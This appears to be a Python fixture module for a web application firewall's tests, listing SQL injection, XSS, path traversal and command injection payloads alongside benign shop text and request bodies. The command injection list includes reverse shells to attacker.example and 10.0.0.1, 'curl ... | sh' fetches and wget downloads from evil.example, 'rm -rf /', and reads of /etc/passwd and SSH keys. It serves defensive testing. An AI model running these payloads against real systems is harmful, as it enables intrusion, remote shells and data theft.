"""Attack and look-alike corpora for the WAF tests (``test_waf.py``).

Attacks are what scanners and manual testers really send (OWASP testing guide, sqlmap,
PayloadsAllTheThings-style probes); every one must be blocked at paranoia level 1 wherever
it is placed. The benign corpus is shop traffic that shares their characters and words:
apostrophes, quotes, "select", "union", "drop", "script", "cat", ampersands, semicolons,
angle brackets, URLs, Markdown, GraphQL and other languages' text. Every one must pass at
paranoia levels 1 and 2.
"""

from __future__ import annotations

import orjson

SQLI = [
    "' OR 1=1--",
    "' OR '1'='1",
    '" OR ""="',
    "admin'--",
    "admin' #",
    "') OR ('a'='a",
    "' OR 'x'='x' /*",
    "1 OR 1=1",
    "1 UNION SELECT username, password FROM users",
    "' UNION ALL SELECT NULL,NULL,NULL--",
    "1 UNION/**/SELECT 1,2,3",
    "1 UN/**/ION SEL/**/ECT 1,2",
    "/*!50000UNION*/ /*!50000SELECT*/ 1,2",
    "1 union%0aselect 1,2",
    "'; DROP TABLE users; --",
    "1; DROP TABLE products",
    "'; EXEC xp_cmdshell('dir'); --",
    "1; SELECT * FROM users",
    "1; UPDATE users SET role='admin' WHERE id=1",
    "' AND SLEEP(5)--",
    "1 AND SLEEP(5)",
    "' || pg_sleep(10)--",
    "' OR BENCHMARK(10000000,MD5(1))#",
    "'; WAITFOR DELAY '0:0:5'--",
    "1' AND (SELECT COUNT(*) FROM information_schema.tables)>0--",
    "' UNION SELECT table_name FROM information_schema.tables--",
    "x' AND 1=0 UNION SELECT @@version--",
    "1' AND extractvalue(1,concat(0x7e,version()))--",
    "' UNION SELECT load_file('/etc/passwd')--",
    "1 INTO OUTFILE '/var/www/shell.php'",
    "'; SHUTDOWN WITH NOWAIT;--",
]

XSS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    '"><script>alert(document.cookie)</script>',
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert('xss')>",
    '<iframe src="https://evil.example/"></iframe>',
    "javascript:alert(document.domain)",
    "JaVaScRiPt:alert(1)",
    '<a href="#" onclick="steal()">x</a>',
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "'-alert(1)-'",
    '";alert(String.fromCharCode(88,83,83));//',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<embed src="https://evil.example/x.swf">',
    "data:text/html,<b>hi</b>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    '<div style="background:url(javascript:alert(1))">',
    "document.location='https://evil.example/?c='+document.cookie",
    "<marquee onstart=alert(1)>",
    "eval(atob('YWxlcnQoMSk='))",
    "<scr<script>ipt>alert(1)</script>",
]

PATH_TRAVERSAL = [
    "../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "....//....//....//etc/passwd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "..%2f..%2f..%2fetc%2fshadow",
    "..%c0%af..%c0%afetc/hosts",
    "/etc/passwd",
    "/etc/shadow",
    "C:\\Windows\\System32\\drivers\\etc\\hosts",
    "c:/windows/win.ini",
    "/proc/self/environ",
    "../../../../var/log/nginx/access.log",
    "file:///etc/passwd",
    "php://filter/convert.base64-encode/resource=index.php",
    "image.png%00.php",
    "invoice.pdf\x00.sh",
    "../../.env",
    "/.git/config",
    "..%5c..%5c..%5cboot.ini",
    "/var/www/../../root/.ssh/id_rsa",
]

COMMAND_INJECTION = [
    "; cat /etc/passwd",
    "| nc attacker.example 4444 -e /bin/sh",
    "$(whoami)",
    "`id`",
    "&& wget http://evil.example/x.sh",
    "; rm -rf /",
    ";id;",
    "| whoami",
    "; ls -la /",
    "$(cat /etc/passwd)",
    "; ping -c 3 127.0.0.1",
    "& ping -n 3 127.0.0.1 &",
    "|| curl http://evil.example/x | sh",
    "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "${IFS}cat${IFS}/etc/passwd",
    "; sleep 10",
    "\nuname -a",
    "; python -c 'import os; os.system(1)'",
    "| powershell -enc SQBFAFgA",
    "${jndi:ldap://evil.example/a}",
    "a;wget http://evil.example/s -O /tmp/s",
    "`curl http://evil.example/`",
    "& whoami",
    "; /bin/sh -c id",
    "| cmd /c dir",
]

SCANNER_USER_AGENTS = [
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 (Windows NT 10.0) AppleWebKit/537.36 acunetix-wvs-test",
    "Nessus SOAP v0.0.1",
    "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)",
    "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
    "gobuster/3.6",
    "Mozilla/5.0 zgrab/0.x",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "Wfuzz/3.1.0",
    "Fuzz Faster U Fool v2.1.0-dev (ffuf)",
    "OpenVAS-VT 22.4",
    "w3af.org",
    "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1; Netsparker)",
    "feroxbuster/2.10.1",
    "Arachni/v1.5.1",
    "WhatWeb/0.5.5",
    "commix/v3.8-stable (https://commixproject.com)",
]

# (category, payload): the payloads that go into queries, JSON, forms and paths.
ATTACKS: list[tuple[str, str]] = [
    *(("sqli", p) for p in SQLI),
    *(("xss", p) for p in XSS),
    *(("path_traversal", p) for p in PATH_TRAVERSAL),
    *(("command_injection", p) for p in COMMAND_INJECTION),
]

# Blocked at paranoia level 2 but let through at 1: weak hints that only add up there.
PL2_ONLY_ATTACKS = [
    "1 ORDER BY 10--",  # a column-count probe: ORDER BY (3) + trailing comment (3)
]

BENIGN_TEXT = [
    # quotes and apostrophes
    "O'Reilly Learning Python, 5th Edition",
    "Rock 'n' Roll Greatest Hits",
    '12" vinyl record',
    "Kids' shoes",
    "Kids' and adults' sizes",
    "Men's T-shirt (L)",
    "Women's 'classic' jeans",
    "It's 5 o'clock somewhere",
    "L'Oréal Paris shampoo",
    "Ben & Jerry's",
    'He said "hello" and left',
    "Vintage 1950's radio",
    "Harry Potter and the Philosopher's Stone",
    "Don't panic",
    # SQL words in prose
    "Select Premium Coffee 500g",
    "select size",
    "Please select a size from the list",
    "Union Jack flag",
    "Drop earrings",
    "drop-in replacement filter",
    "Drop-leaf table",
    "Or else: a novel",
    "black or white",
    "Black or white = same price",
    "tableau, union, select: words in prose",
    "Order #12345",
    "#1 bestseller",
    # script and HTML look-alikes
    "Script font pen",
    "Manuscript paper notebook",
    "JavaScript: The Good Parts",
    "under <50",
    "Price < 50 and > 10",
    "x >= 5 and y <= 10",
    "Alert (2 pack) whistle",
    "Confirm your order",
    "Online only",
    # dashes, ampersands, semicolons, pipes
    "A -- B",
    "50% off -- today only!",
    "Salt & pepper",
    "Salt; pepper",
    "Black & Decker drill",
    "R&B classics",
    "Q&A with the author",
    "AT&T compatible phone",
    "Fish & chips; mushy peas",
    "Buy 2; get 1 free",
    "Gifts & more",
    "Tools | Hardware | Garden",
    "Size: 10 | Colour: red",
    "100% cotton; machine washable",
    "a=b; c=d",
    "1 + 1 = 2",
    "Wait... what?",
    # shell words in prose
    "Cat toy",
    "Cat toy; dog bed",
    "cat; dog bed",
    "Dog | Cat",
    "Echo Dot (5th gen)",
    "Sleep mask (2 pack)",
    "Sleep 8 hours",
    "Curl defining cream",
    "Ruby necklace; silver chain",
    "Bash party supplies",
    "Python programming book",
    "ID card holder",
    "C# in Depth",
    "Learning C++ & Java",
    # addresses, paths and contact details
    "jane.doe+shop@example.com",
    "https://example.com/a?b=c",
    "https://example.com/search?q=shoes&page=2",
    "1/2 inch copper pipe",
    '3/4" socket set',
    "Grey/black/white",
    "Email support@example.com or call +1 (555) 123-4567",
    "Raleigh; NC 27601",
    # other languages
    "Pão de queijo congelado",
    "Açaí na tigela – 500 ml",  # noqa: RUF001 - a real en dash
    "Café com leite ☕",
    "日本茶 緑茶 100g",
    "Crème brûlée torch",
    "Straße & Söhne",
    "Ελληνικό γιαούρτι",
    # Markdown and structured text
    "**Bold** claim: _100%_ cotton",
    "# Heading\n\n- item one\n- item two\n\n[Docs](https://example.com/docs)",
    "Use `SKU-1` when ordering",
    "| Size | Chest |\n|---|---|\n| M | 100 cm |",
    '{"nested": "json", "inner": [1, 2]}',
    '{ search(q: "shoes") { items { id } } }',
]

BENIGN_USER_AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 "
    "(KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
    "curl/8.5.0",
    "python-httpx/0.27.0",
    "python-requests/2.31.0",
    "locust/2.29.0",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "okhttp/4.12.0",
    "Go-http-client/2.0",
]

GRAPHQL_QUERY = """
query Search($q: String!, $first: Int = 10) {
  search(q: $q, first: $first) {
    items { id name price { amount currency } ...Stock }
    next_cursor
  }
}
fragment Stock on Product { stock @include(if: true) { available } }
"""

MARKDOWN_DESCRIPTION = """## Select Premium Coffee

Our *single-origin* beans (Brazil & Colombia) -- roasted to order.

- 100% Arabica; no blends
- Grind: whole bean | espresso | filter
- Price: under <50 for 1 kg

> "Best coffee I've had" -- O'Reilly, 12" vinyl collector

See [brewing guide](https://example.com/guide?lang=pt&ref=shop) or email
hello@example.com. Açúcar não incluído. Kids' mugs sold separately; drop-in filters too.
"""


def product_body(size: int = 10_000) -> bytes:
    """A realistic merchant product of about ``size`` bytes (variants, attributes, text)."""
    variants = []
    index = 0
    while True:
        variants.append(
            {
                "sku": f"SKU-{index:05d}",
                "title": f"Select Premium Coffee {index} – Kids' edition",  # noqa: RUF001
                "attributes": {"color": "black or white", "size": f"{index % 5 + 1}/2 inch"},
                "price": {"amount": 1299 + index, "currency": "EUR"},
                "barcode": f"0{index:012d}",
            }
        )
        index += 1
        body = {
            "id": "p-123",
            "title": "O'Reilly Learning Python",
            "description": MARKDOWN_DESCRIPTION,
            "tags": ["books", "python", "rock 'n' roll"],
            "variants": variants,
        }
        data = orjson.dumps(body)
        if len(data) >= size:
            return data


# Whole bodies the shop receives: (path, content type, body).
BENIGN_BODIES: list[tuple[str, str, bytes]] = [
    ("/v1/carts/c-1/items", "application/json", b'{"sku":"SKU-1","quantity":2}'),
    (
        "/graphql",
        "application/json",
        orjson.dumps({"query": GRAPHQL_QUERY, "variables": {"q": "Kids' shoes"}}),
    ),
    (
        "/graphql",
        "application/json",
        orjson.dumps(
            {
                "query": 'mutation { addItem(cartId: "c-1", sku: "SKU-1", quantity: 2) '
                "{ id lines { sku quantity } } }"
            }
        ),
    ),
    (
        "/v1/merchant/products",
        "application/json",
        orjson.dumps({"metadata": orjson.dumps({"a": "b", "c": [1, 2]}).decode()}),
    ),
    ("/v1/merchant/products", "application/json; charset=utf-8", product_body()),
    (
        "/v1/payments/webhooks/sandbox",
        "application/json",
        orjson.dumps(
            {
                "id": "evt_123",
                "type": "payment.succeeded",
                "data": {"order_id": "o-1", "amount": 1299, "currency": "EUR"},
            }
        ),
    ),
    (
        "/v1/merchant/products/p-1",
        "application/merge-patch+json",
        orjson.dumps({"title": "Rock 'n' Roll -- 12\" vinyl", "tags": None}),
    ),
    (
        "/v1/merchant/products/import",
        "application/x-ndjson",
        b"\n".join(
            orjson.dumps({"id": f"p-{i}", "title": text}) for i, text in enumerate(BENIGN_TEXT)
        )
        + b"\n",
    ),
    (
        "/oauth/token",
        "application/x-www-form-urlencoded",
        b"grant_type=password&username=jane%40example.com"
        b"&password=p%27%3B+DROP+TABLE+users--x%3Cscript%3E&client_id=web"
        b"&client_secret=%24%28whoami%29%60id%60",
    ),
    (
        "/oauth/token",
        "application/x-www-form-urlencoded",
        b"grant_type=refresh_token&refresh_token=..%2F..%2Fetc%2Fpasswd%27+OR+1%3D1",
    ),
    (
        "/v1/checkout",
        "application/json",
        orjson.dumps({"cart_id": "c-1", "payment_token": "tok_' OR 1=1--<script>"}),
    ),
]
